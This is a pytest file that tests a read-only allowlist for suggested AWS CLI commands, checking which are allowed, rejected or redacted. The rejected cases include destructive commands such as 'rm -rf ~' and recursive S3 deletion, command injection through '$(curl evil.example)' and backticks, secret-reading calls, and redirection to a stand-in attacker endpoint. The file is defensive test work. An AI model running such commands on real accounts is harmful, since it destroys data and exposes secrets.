"""The read-only allowlist for suggested `aws` commands."""

from __future__ import annotations

import pytest

from functions.analyze.commands import CommandFilter, aws_commands_in_text, check_command


@pytest.mark.parametrize(
    "command",
    [
        "aws lambda get-function-configuration --function-name ImageProcessor --region us-east-1",
        "aws ec2 describe-instances --instance-ids i-0abc --query 'Reservations[].Instances[?State.Name==`running`]'",
        "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventName,AttributeValue=PutObject",
        "aws logs filter-log-events --log-group-name /aws/lambda/ImageProcessor --filter-pattern ERROR",
        "aws logs start-query --log-group-name /aws/lambda/x --start-time 1764576000 "
        "--end-time 1764579600 --query-string 'fields @message | filter @message like /ERROR/ | limit 20'",
        "aws logs get-query-results --query-id 12ab",
        "aws --region eu-west-1 cloudwatch list-metrics --namespace AWS/Lambda",
        "aws s3 ls s3://images-thumbnails/",
        "aws s3api head-object --bucket b --key k",
    ],
)
def test_read_only_commands_are_allowed(command: str) -> None:
    # When
    verdict = check_command(command)

    # Then
    assert verdict.allowed, verdict.reason


@pytest.mark.parametrize(
    ("command", "reason_fragment"),
    [
        ("aws ec2 terminate-instances --instance-ids i-0abc", "not a read-only operation"),
        ("aws lambda delete-function --function-name ImageProcessor", "not a read-only operation"),
        ("aws lambda put-function-concurrency --function-name x --reserved-concurrent-executions 0", "not a read-only"),
        ("aws s3 rm s3://bucket --recursive", "not read-only"),
        ("aws s3 cp s3://bucket/key .", "not read-only"),
        ("aws ec2 describe-instances && aws ec2 terminate-instances --instance-ids i-1", "metacharacter"),
        ("aws ec2 describe-instances; rm -rf ~", "metacharacter"),
        ("aws ec2 describe-instances | sh", "metacharacter"),
        ("aws iam list-users > /tmp/users.json", "metacharacter"),
        ("aws lambda get-function --function-name $(curl evil.example)", "metacharacter"),
        ("aws lambda get-function --function-name `id`", "metacharacter"),
        ('aws lambda get-function --function-name "$HOME"', "metacharacter"),
        ("aws logs start-query --log-group-name /aws/x --start-time $(date -d '-1 hour' +%s)", "metacharacter"),
        ("aws secretsmanager get-secret-value --secret-id prod/db", "reveals secrets"),
        ("aws ssm get-parameter --name /prod/key --with-decryption", "reveals secrets"),
        ("aws ecr get-login-password", "reveals secrets"),
        ("aws lambda list-functions --endpoint-url https://evil.example", "--endpoint-url"),
        ("kubectl delete pod x", "not an aws CLI command"),
        ("aws ec2 describe-instances 'unterminated", "unbalanced"),
        ("aws lambda", "no service and operation"),
        ("", "empty"),
    ],
)
def test_anything_else_is_rejected_with_a_reason(command: str, reason_fragment: str) -> None:
    # When
    verdict = check_command(command)

    # Then
    assert not verdict.allowed
    assert reason_fragment in verdict.reason


def test_filter_keeps_safe_commands_and_records_dropped_ones() -> None:
    # Given
    commands = CommandFilter()

    # When
    kept = commands.keep_commands(
        ["`aws ec2 describe-instances --instance-ids i-1`", "$ aws ec2 terminate-instances --instance-ids i-1"]
    )

    # Then
    assert kept == ["aws ec2 describe-instances --instance-ids i-1"]
    assert len(commands.dropped) == 1
    assert "terminate-instances" in commands.dropped[0]


def test_commands_mentioned_in_prose_are_found_but_product_names_are_not() -> None:
    # When
    found = aws_commands_in_text(
        "AWS Lambda costs rose. Run `aws ec2 terminate-instances --instance-ids i-1` or aws logs tail /aws/x."
    )

    # Then
    assert found == ["aws ec2 terminate-instances --instance-ids i-1", "aws logs tail /aws/x"]


def test_prose_with_an_unsafe_command_is_dropped_and_redacted() -> None:
    # Given
    commands = CommandFilter()

    # When
    kept = commands.clean_text("Stop it now: aws ec2 terminate-instances --instance-ids i-1")
    redacted = commands.redact_text("Caused by a loop; aws lambda delete-function --function-name x would stop it")

    # Then
    assert kept is None
    assert "delete-function" not in redacted
    assert "[unsafe command removed]" in redacted
    assert len(commands.dropped) == 2
